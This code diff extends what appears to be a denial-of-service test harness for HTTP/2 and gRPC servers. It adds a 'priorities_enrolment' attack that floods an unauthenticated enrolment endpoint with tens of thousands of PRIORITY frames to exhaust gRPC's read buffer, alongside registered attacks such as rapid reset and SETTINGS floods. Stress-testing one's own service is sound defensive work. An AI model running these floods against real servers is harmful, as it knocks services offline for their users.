@@ -26,6 +26,7 @@ SLOW_HANDSHAKES = 1_000
 BOMB_BYTES = 64 << 20
 OVERSIZED_BYTES = 16 << 20
 FRAMES_AT_ONCE = 200
+MANY_FRAMES = 30_000
 
 
 @dataclass(frozen=True, slots=True)
@@ -112,6 +113,20 @@ def pings(target: Target, until: _Until) -> None:
 def settings(target: Target, until: _Until) -> None:
     """SETTINGS frames (CVE-2019-9515)."""
     _frames(until, target.ingest, target.agent(), _repeated(http2.settings([(4, 65_535)])))
+
+
+def priorities_enrolment(target: Target, until: _Until) -> None:
+    """PRIORITY frames without a pause, by nobody in particular who acknowledges the SETTINGS: gRPC's read buffer grows with
+    what comes in without its ever finding the socket empty."""
+
+    def send(connection: Connection, stream: int) -> int:
+        if stream == 1:
+            connection.acknowledge()
+        connection.send(http2.priority(1) * MANY_FRAMES)
+        until.done["frames"] += MANY_FRAMES - FRAMES_AT_ONCE
+        return stream + 2
+
+    _frames(until, target.enrolment, target.nobody(), send)
 
 
 def giant_metadata(target: Target, until: _Until) -> None:
@@ -235,6 +250,7 @@ ATTACKS: dict[str, Callable[[Target, _Until], None]] = {
         rapid_reset_enrolment,
         pings,
         settings,
+        priorities_enrolment,
         giant_metadata,
         idle_sockets,
         slow_handshakes,
